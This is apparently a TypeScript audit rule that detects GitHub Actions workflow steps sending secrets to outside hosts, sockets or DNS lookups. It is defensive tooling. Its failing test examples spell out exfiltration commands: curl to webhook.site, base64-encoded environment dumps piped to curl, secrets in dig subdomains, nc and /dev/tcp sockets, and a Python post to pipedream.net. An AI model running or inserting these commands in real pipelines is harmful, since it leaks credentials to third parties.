import type { Hit } from './define-audit.ts'
import { flowsOf, type StepFlow } from '../taint/job-flow.ts'
import { RESOLVER, SOCKET } from '../taint/sent-flows.ts'
import { defineAudit, FIRST_STEP_LINE, steps } from './define-audit.ts'
import { DROP_HOSTS, SERVICE_HOSTS } from './secret-exfiltration.data.ts'

const KEY = ['  env:', '    KEY: ${{ secrets.KEY }}']

export const secretExfiltration = defineAudit({
  id: 'secret-exfiltration',
  title: 'Secret sent where it does not belong',
  severity: 'high',
  confidence: 'medium',
  persona: 'regular',
  remediation:
    'Remove the command, rotate the secret, and find out who added it; send credentials over `https` to the service that they are for.',
  references: [
    'https://cwe.mitre.org/data/definitions/200.html',
    'https://github.com/advisories/GHSA-mrrh-fwg8-r2c3',
    'https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information',
  ],
  examples: {
    failing: [
      {
        name: 'a host that shows what it is sent',
        files: steps('- run: curl -d "k=$KEY" https://webhook.site/1', ...KEY),
        lines: [FIRST_STEP_LINE],
      },
      {
        name: 'the whole environment',
        files: steps('- run: env | base64 | curl -sd @- https://example.com/c', ...KEY),
        lines: [FIRST_STEP_LINE],
      },
      {
        name: 'a name that is looked up',
        files: steps('- run: dig "$KEY.example.com"', ...KEY),
        lines: [FIRST_STEP_LINE],
      },
      {
        name: 'a socket',
        files: steps(
          '- run: |',
          '    echo "$KEY" | nc example.com 4444',
          '    echo "$KEY" > /dev/tcp/example.com/80',
          ...KEY,
        ),
        lines: [FIRST_STEP_LINE + 1, FIRST_STEP_LINE + 2],
      },
      {
        name: 'in clear',
        files: steps('- run: |', '    curl -H "Authorization: Bearer $KEY" http://api.example.com/v1', ...KEY),
        lines: [FIRST_STEP_LINE + 1],
      },
      {
        name: 'by code',
        files: steps(
          '- run: |',
          '    import os, requests',
          '    requests.post("https://pipedream.net/x", data=os.environ["KEY"])',
          '  shell: python',
          ...KEY,
        ),
        lines: [FIRST_STEP_LINE + 2],
      },
    ],
    passing: [
      {
        name: 'the service that it is for',
        files: steps('- run: |', '    curl -H "Authorization: Bearer $KEY" https://api.example.com/v1', ...KEY),
      },
      { name: 'an address that is the secret', files: steps('- run: curl -sS -d text "$KEY"', ...KEY) },
      {
        name: 'a host that is the secret',
        files: steps('- run: |', '    ping -c 1 "$KEY"', '    nc -z "$KEY" 22', ...KEY),
      },
      {
        name: 'a service of the job',
        files: steps('- run: |', '    curl -H "X-Key: $KEY" http://vault:8200/v1/sys', ...KEY),
      },
      { name: 'nothing secret', files: steps('- run: curl -d "v=$VERSION" https://webhook.site/1', ...KEY) },
    ],
  },
  *run(file, subject) {
    for (const flow of flowsOf(file, subject).flows) {
      if (flow.kind !== 'sent') continue
      const judged = judge(flow)
      if (judged === null) continue
      const detail = `${flow.program} ${flow.target} ${flow.taint.label}`
      yield { span: flow.span, at: flow.step, detail, ...judged }
    }
  },
})

/** Where a flow goes and how bad that is; null where it goes where credentials belong. */
function judge({ taint, target }: StepFlow): Pick<Hit, 'message' | 'severity' | 'confidence' | 'persona'> | null {
  const what = taint.dump === null ? `\`${taint.label}\`` : 'Everything secret that the step knows'
  if (target === RESOLVER)
    return { message: `${what} becomes part of a name, which whoever owns the domain is asked for.` }
  if (target === SOCKET) return { message: `${what} goes into a bare connection, which no credential is meant for.` }
  const [scheme = '', host = ''] = target.split('://')
  if (isBelow(host, DROP_HOSTS)) {
    return { message: `${what} goes to \`${host}\`, which keeps what it is sent for whoever asks.`, confidence: 'high' }
  }
  if (isLocal(host)) return null
  if (taint.dump !== null) return { message: `${what} leaves the runner.`, confidence: 'high' }
  if (isAddress(host))
    return { message: `${what} goes to an address without a name, of which nobody can tell whose it is.` }
  if (scheme === 'http') {
    return { message: `${what} goes out in clear, for everybody on the way to read.`, severity: 'medium' }
  }
  if (isBelow(host, SERVICE_HOSTS)) return null
  const where = host === '' ? 'an address that is only known when it runs' : `\`${host}\``
  return {
    message: `${what} goes to ${where}. Is it for that service?`,
    severity: 'medium',
    confidence: 'low',
    persona: 'auditor',
  }
}

function isBelow(host: string, domains: readonly string[]): boolean {
  return domains.some((domain) => host === domain || host.endsWith(`.${domain}`))
}

function isAddress(host: string): boolean {
  return /^\d{1,3}(?:\.\d{1,3}){3}$/.test(host) || host.startsWith('[')
}

/** The runner itself, its containers, and what only an own network knows. */
function isLocal(host: string): boolean {
  if (host === '') return false
  if (isAddress(host))
    return /^(?:127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.|0\.0\.0\.0|\[::1\])/.test(host)
  return !host.includes('.') || /\.(?:local|localhost|internal|lan|home|test)$/.test(host)
}
